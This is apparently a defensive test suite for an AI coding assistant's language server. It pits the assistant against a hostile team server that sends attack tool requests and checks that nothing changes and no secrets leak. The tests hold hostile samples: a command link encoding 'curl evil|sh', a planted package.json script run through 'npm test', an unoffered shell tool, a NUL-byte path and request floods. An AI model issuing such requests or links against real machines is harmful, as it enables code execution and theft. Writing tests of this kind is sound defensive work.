/**
 * A compromised team server against a connected developer: the real
 * language server (`dist/language-server.js`) in remote mode, signed in to a
 * hostile gRPC server over real TLS that sends every attack of the catalogue
 * as tool requests, plus malformed ones. Tool requests from a team server go
 * through the same executor, policy and sandbox as local ones (BRIEF
 * invariant 1), so with every approval rejected nothing may change on the
 * developer's machine and no secret may reach the server.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ChatSendRequest, CommandApprovalRequest, CommitMessageRequest, EditApprovalRequest, SessionGetRequest, TeamConnectRequest, TeamStatusNotification, WorkspaceTrustNotification, type TeamStatus } from '../../protocol/lspMethods';
import { createHostileWorkspace, type HostileWorkspace } from '../fixtures/hostileWorkspace';
import { hostileToolCalls } from '../fixtures/hostileToolCalls';
import { malformedToolCalls } from '../fixtures/malformedToolCalls';
import { startHostileTeamServer, type HostileTeamServer, type HostileToolRequest } from '../fixtures/hostileTeamServer';
import { startLspTestClient, type LspTestClient } from './lspTestClient';
import { makePki, type TestPki } from './teamServerHarness';
import type { ToolResult } from '../../protocol/chat';
import { attackTally, rejectEveryApproval, type AttackOutcome } from './hostileHarness';

/** Requests no honest server sends: each must come back as an error result and change nothing. */
const MALFORMED: { what: string; request: HostileToolRequest }[] = [
  { what: 'a tool the client never offered', request: { name: 'exec_shell', arguments: { command: 'touch MARKER-unknown' } } },
  { what: 'arguments that are not JSON', request: { name: 'run_command', arguments: '{"command": "touch MARKER-json"' } },
  { what: 'arguments of the wrong type', request: { name: 'write_file', arguments: { path: ['.git', 'config'], content: 42 } } },
  { what: 'a path with a NUL byte', request: { name: 'write_file', arguments: { path: '.git/config\u0000.txt', content: 'x' } } },
];

describe('a hostile team server against a connected developer (every approval rejected)', function () {
  this.timeout(60_000);
  let pki: TestPki;
  let hostile: HostileWorkspace;
  let server: HostileTeamServer;
  let storage: string;
  let client: LspTestClient;
  const asked: string[] = [];
  const outcomes: AttackOutcome[] = [];

  before(async () => {
    pki = makePki();
    hostile = createHostileWorkspace();
    server = await startHostileTeamServer(pki);
    storage = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-hostile-team-'));
    const url = `grpcs://localhost:${server.port}`;
    client = await startLspTestClient({
      storagePath: storage,
      workspace: hostile.workspace,
      settings: { chat: { model: 'qwen2.5-coder:7b' }, server: { mode: 'remote', url, caFile: path.join(pki.dir, 'ca.crt') } },
      env: { ...process.env, HOME: hostile.home },
    });
    rejectEveryApproval(client.connection, asked);
    await client.connection.sendNotification(WorkspaceTrustNotification.type, { trusted: true });
    const status = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
    assert.equal(status.state, 'connected', JSON.stringify(status));
  });

  after(async () => {
    await client?.stop();
    await server?.close();
    console.log(attackTally('hostile team server, remote mode', outcomes));
    hostile?.cleanup();
    pki?.cleanup();
    if (storage) fs.rmSync(storage, { recursive: true, force: true });
  });

  /** Sends one attack; returns the client's tool result, or null when the client ended the turn as a protocol violation instead. */
  async function sendAttack(what: string, request: HostileToolRequest): Promise<ToolResult | null> {
    const before = hostile.fingerprint();
    asked.length = 0;
    server.script([request]);
    const started = await client.connection.sendRequest(ChatSendRequest.type, { input: { text: 'Summarise this project.', context: [] } });
    await client.waitForEvent((e) => e.entryId === started.assistantEntryId && e.event.type === 'done', 45_000);
    assert.ok(server.results.length <= 1, 'the client answered the tool request at most once');
    const result = server.results[0] ?? null;
    const turnError = client.events.find((e) => e.entryId === started.assistantEntryId && e.event.type === 'error');
    assert.ok(result || turnError, 'the client either answered the request or ended the turn with an error');
    const leaked = result ? hostile.secrets.filter((s) => result.content.includes(s)) : [];
    const changes = hostile.changesSince(before);
    outcomes.push({ what, asked: asked.length > 0, refused: !result || result.isError, succeeded: leaked.length > 0 || changes.length > 0 });
    assert.deepEqual(leaked, [], `a secret reached the team server: ${result?.content.slice(0, 300)}`);
    assert.deepEqual(changes, [], `the attack changed files (result: ${result?.summary}: ${result?.content.slice(0, 300)})`);
    return result;
  }

  const names = hostileToolCalls({ marker: 'M', home: '~', outside: '../outside' } as HostileWorkspace).map((c) => c.what);
  names.forEach((what, index) => {
    it(`attack: ${what}`, async () => {
      const call = hostileToolCalls(hostile)[index];
      const result = await sendAttack(what, { name: call.name, arguments: call.arguments });
      assert.ok(result, 'a well-formed request for an offered tool gets a result');
    });
  });

  for (const { what, request } of MALFORMED) {
    it(`malformed: ${what}`, async () => {
      const withMarker: HostileToolRequest =
        typeof request.arguments === 'string' ? { ...request, arguments: request.arguments.replace('MARKER', hostile.marker) } : { ...request, arguments: JSON.parse(JSON.stringify(request.arguments).replace('MARKER', hostile.marker)) };
      const result = await sendAttack(what, withMarker);
      // Either answer is safe: an error result the server can read, or the turn ended as a protocol violation.
      if (result) assert.equal(result.isError, true, 'a malformed request gets an error result');
    });
  }

  malformedToolCalls('M').forEach(({ what }, index) => {
    it(`malformed: ${what} is refused by its schema, without asking, as a local model's call is`, async () => {
      const call = malformedToolCalls(hostile.marker)[index];
      const result = await sendAttack(what, { name: call.name, arguments: call.arguments });
      assert.deepEqual(asked, [], 'no approval was asked for a call the tool does not take');
      assert.equal(result?.isError, true, 'the server gets an error result');
      assert.match(result.content, call.error);
    });
  });

  /** Sends one chat message and waits for the reply to end; returns the reply's events. */
  async function turn(): Promise<{ type: string; error?: { message: string } }[]> {
    const started = await client.connection.sendRequest(ChatSendRequest.type, { input: { text: 'Summarise this project.', context: [] } });
    await client.waitForEvent((e) => e.entryId === started.assistantEntryId && e.event.type === 'done', 45_000);
    return client.events.filter((e) => e.entryId === started.assistantEntryId).map((e) => e.event as { type: string; error?: { message: string } });
  }

  it('a write and the allow-listed commands that would run it, sent together without waiting: the commands run after the write, in order, and ask', async () => {
    const packageJson = path.join(hostile.workspace, 'package.json');
    const original = fs.readFileSync(packageJson, 'utf8');
    const ran = path.join(hostile.workspace, `ran-${hostile.marker}`);
    const commandReasons: string[][] = [];
    // This user accepts the edit (it looks harmless in review) and rejects every command it is asked about.
    client.connection.onRequest(EditApprovalRequest.type, () => ({ decision: 'accept' as const }));
    client.connection.onRequest(CommandApprovalRequest.type, (p) => {
      commandReasons.push(p.reasons ?? [p.reason]);
      return { decision: 'reject' };
    });
    try {
      const planted = JSON.stringify({ name: 'victim', private: true, scripts: { test: `touch ran-${hostile.marker}` } }, null, 2);
      server.script(
        [{ name: 'write_file', arguments: { path: 'package.json', content: planted } }, ...[1, 2, 3].map(() => ({ name: 'run_command', arguments: { command: 'npm test' } }))],
        'all at once',
      );
      await turn();
      assert.deepEqual(
        server.results.map((r) => r.callId),
        ['hostile-0', 'hostile-1', 'hostile-2', 'hostile-3'],
        'one at a time, in the order the server sent them',
      );
      assert.equal(fs.readFileSync(packageJson, 'utf8'), planted, 'the accepted write landed first');
      assert.equal(commandReasons.length, 3, 'every npm test asked, though npm test is allow-listed');
      for (const reasons of commandReasons) assert.ok(reasons.some((r) => /this reply changed package\.json/.test(r)), reasons.join(' | '));
      assert.equal(fs.existsSync(ran), false, 'the planted script never ran');
    } finally {
      fs.writeFileSync(packageJson, original);
      rejectEveryApproval(client.connection, asked);
    }
  });

  it('a burst of tool requests beyond the limit ends the reply as a protocol violation instead of starting them all', async () => {
    const flood = Array.from({ length: 200 }, () => ({ name: 'run_command', arguments: { command: 'sleep 5', timeoutSeconds: 600 } }));
    server.script(flood, 'all at once');
    const events = await turn();
    const error = events.find((e) => e.type === 'error');
    assert.match(error?.error?.message ?? '', /invalid message \(a tool request while 16 were waiting or running/);
    assert.deepEqual(server.results, [], 'none of them sent a result: the first was stopped with the reply');
  });

  it('a reply that goes on past 16 million characters is stopped there, with what came before kept', async () => {
    server.scriptText(Array.from({ length: 12 }, (_, i) => `${i} ${'x'.repeat(1_999_000)}`));
    const events = await turn();
    const error = events.find((e) => e.type === 'error');
    assert.match(error?.error?.message ?? '', /more than 16 million characters in one reply, so the reply was stopped there/);
    const text = events.filter((e) => e.type === 'text').length;
    assert.ok(text >= 7 && text < 12, `the deltas before the limit were shown (${text})`);
  });

  it('an access token said to last 60 days is not refreshed over and over', async () => {
    // Past 24.8 days, the wait before the refresh no longer fits Node's timer, which then fires at once.
    server.setAccessLifetime(60 * 24 * 3_600_000);
    const statuses: TeamStatus[] = [];
    const listening = client.connection.onNotification(TeamStatusNotification.type, (s) => void statuses.push(s));
    const url = `grpcs://localhost:${server.port}`;
    try {
      const status = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
      assert.equal(status.state, 'connected', JSON.stringify(status));
      const refreshesBefore = server.refreshes;
      statuses.length = 0;
      await new Promise((resolve) => setTimeout(resolve, 3_000));
      assert.equal(server.refreshes - refreshesBefore, 0, 'no refresh is due for 48 days');
      assert.deepEqual(statuses, [], 'the status bar is not told the same sign-in again and again');
      const reply = await turn();
      assert.ok(reply.some((e) => e.type === 'done'), 'chat still works with the long-lived token');
    } finally {
      listening.dispose();
      server.setAccessLifetime(3_600_000);
      await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
    }
  });

  for (const { what, lifetimeMs } of [
    { what: 'already expired when they arrive', lifetimeMs: -60_000 },
    { what: 'that expire a second after they arrive', lifetimeMs: 1_000 },
  ]) {
    it(`access tokens ${what} are asked for a few times, then the status and the chat say why, and the message is kept`, async () => {
      // Tokens that expire at once are what a server (or a developer's machine) with a wrong clock hands out.
      server.setAccessLifetime(lifetimeMs);
      const statuses: TeamStatus[] = [];
      const listening = client.connection.onNotification(TeamStatusNotification.type, (s) => void statuses.push(s));
      const url = `grpcs://localhost:${server.port}`;
      try {
        const refreshesBefore = server.refreshes;
        const status = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
        assert.equal(status.state, 'connected', JSON.stringify(status));
        await new Promise((resolve) => setTimeout(resolve, 4_000));
        const refreshes = server.refreshes - refreshesBefore;
        assert.ok(refreshes <= 2, `a bounded number of refreshes, not one a second (${refreshes} in 4 s)`);
        const failed = statuses.find((s) => s.state === 'error');
        assert.match(failed?.message ?? '', /access tokens that expire immediately.*clock/s, JSON.stringify(statuses));
        const started = await client.connection.sendRequest(ChatSendRequest.type, { input: { text: 'Summarise this clock problem.', context: [] } });
        await client.waitForEvent((e) => e.entryId === started.assistantEntryId && e.event.type === 'done', 20_000);
        const error = client.events.find((e) => e.entryId === started.assistantEntryId && e.event.type === 'error')?.event as { error: { message: string } } | undefined;
        assert.match(error?.error.message ?? '', /access tokens that expire immediately.*clock.*Connect to Team Server/s, JSON.stringify(error));
        const session = await client.connection.sendRequest(SessionGetRequest.type, { sessionId: started.sessionId });
        assert.ok(session.entries.some((e) => e.kind === 'user' && e.text === 'Summarise this clock problem.'), 'the message is kept in its chat');
        const settled = server.refreshes;
        await new Promise((resolve) => setTimeout(resolve, 2_000));
        assert.equal(server.refreshes, settled, 'no more refreshes after giving up');
      } finally {
        listening.dispose();
        server.setAccessLifetime(3_600_000);
        await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
      }
    });
  }

  // VS Code renders [label](target) in a notification as a link and opens command: targets too, so text a server
  // chose, shown in "connected as …" or "could not connect: …", could run any command on one click.
  const commandLink = '[Enter your API key again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';

  it('a user name with a command link or hidden characters is shown inert, not as a link', async () => {
    server.setUser(`alice ${commandLink} \u202Eevil`);
    const url = `grpcs://localhost:${server.port}`;
    try {
      const status = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
      assert.equal(status.state, 'connected', JSON.stringify(status));
      assert.doesNotMatch(status.user ?? '', /\]\(/, 'no [label](target) link is left in the name');
      assert.match(status.user ?? '', /^alice \[Enter your API key again\] \(command:.*⟨U\+202E⟩evil$/, 'the name is still shown, every character of it visible');
    } finally {
      server.setUser('victim');
      await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
    }
  });

  it('a refused sign-in whose reason carries a command link is reported with the link made inert', async () => {
    server.refuseSignIn(`Your key expired. ${commandLink}`);
    const url = `grpcs://localhost:${server.port}`;
    try {
      const message = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' }).then(
        () => assert.fail('the sign-in was refused'),
        (err: { data?: { message?: string } }) => err.data?.message ?? '',
      );
      assert.match(message, /^The team server did not accept the sign-in: Your key expired\. \[Enter your API key again\] \(command:/, message);
      assert.doesNotMatch(message, /\]\(/, 'no [label](target) link is left in the message');
    } finally {
      server.refuseSignIn(undefined);
      await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
    }
  });

  it('an error a reply ends with, shown by an editor action as a notification, carries no command link', async () => {
    server.scriptError(`The model crashed. ${commandLink}`);
    const message = await client.connection.sendRequest(CommitMessageRequest.type, { diff: 'diff --git a/a.ts b/a.ts\n+export const a = 1;\n' }).then(
      () => assert.fail('the reply ended with an error'),
      (err: { data?: { message?: string } }) => err.data?.message ?? '',
    );
    assert.match(message, /The model crashed\. \[Enter your API key again\] \(command:/, message);
    assert.doesNotMatch(message, /\]\(/, 'no [label](target) link is left in the message');
  });
});
